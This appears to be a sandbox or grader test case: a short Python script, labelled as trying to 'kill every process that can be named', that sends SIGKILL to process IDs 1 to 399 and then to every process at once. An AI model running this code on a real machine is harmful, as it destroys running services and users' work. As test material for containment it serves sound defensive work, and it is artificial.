# Tries: kill every process that can be named
# Boundary: grader
# Before: held
# Cell: devices

import os
import signal

for number in range(1, 400):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)
